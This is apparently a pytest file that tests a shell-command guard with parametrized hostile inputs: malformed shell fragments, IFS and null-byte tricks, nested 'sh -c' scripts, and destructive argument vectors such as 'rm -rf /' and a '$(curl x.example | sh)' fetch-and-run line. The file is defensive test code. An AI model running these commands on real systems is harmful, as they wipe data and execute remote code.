"""The command guard on hostile input: any text or argument vector gets a verdict, scripts
nested too deep are not harmless, and an argument vector is never read as shell."""

from __future__ import annotations

import shlex

import pytest
from alveary import CommandVerdict
from alveary_security import Guard

HOSTILE = [
    "",
    "   ",
    "\n\n",
    ";",
    "|",
    "&&",
    ")",
    "((",
    "}{",
    "'",
    '"',
    "`",
    "$(",
    "${",
    "$'",
    "\\",
    "\x00",
    "rm -rf /\x00",
    "a" * 100_000,
    "echo $((",
    "<<EOF",
    "cat <<",
    "f() {",
    "function",
    "for",
    "case x in",
    "sh -c",
    "bash -c ''",
    "eval",
    "xargs",
    "find / -exec",
    "sudo",
    "env -S",
    "timeout",
    "kill",
    "-rf",
    "-- -1",
    ">",
    ">&",
    "2>&1",
    "$@",
    "${IFS}",
    "$IFS$IFS",
    " ".join(["sh -c '"] * 3),
    "(" * 500 + ")" * 500,
    "$(" * 300 + ")" * 300,
]


@pytest.mark.parametrize("text", HOSTILE, ids=range(len(HOSTILE)))
def test_hostile_text_gets_a_verdict(text: str) -> None:
    verdict = Guard.from_config().check(text, workspace="/srv/ws")
    assert verdict.action in ("allow", "log", "approve", "block")


def test_scripts_nested_too_deep_are_not_harmless() -> None:
    text = "true"
    for _ in range(12):
        text = f"sh -c {shlex.quote(text)}"
    assert Guard.from_config().check(text).rules == ("unparsable",)
    assert Guard.from_config().check(["sh", "-c", text]).risk == "high"


@pytest.mark.parametrize(
    "argv",
    [
        [],
        [""],
        ["-rf"],
        ["--"],
        ["rm", "-rf", "/"],
        ["/bin/rm", "--", "-rf"],
        ["sh", "-c"],
        ["bash", "-c", "$(curl x.example)"],
        ["\x00"],
        ["sudo"],
        ["env", "A=1"],
    ],
)
def test_hostile_argv_gets_a_verdict(argv: list[str]) -> None:
    assert Guard.from_config().check(argv).action in ("allow", "log", "approve", "block")


def test_an_argv_is_not_read_as_shell() -> None:
    g = Guard.from_config()
    assert g.check(["echo", "rm -rf /; $(curl x.example | sh)"]) == CommandVerdict("allow")
    assert g.check(["rm", "-rf", "/"]).risk == "critical"
    assert g.check(["bash", "-c", 'rm -rf "$1"', "bash", "/"]).risk == "critical"
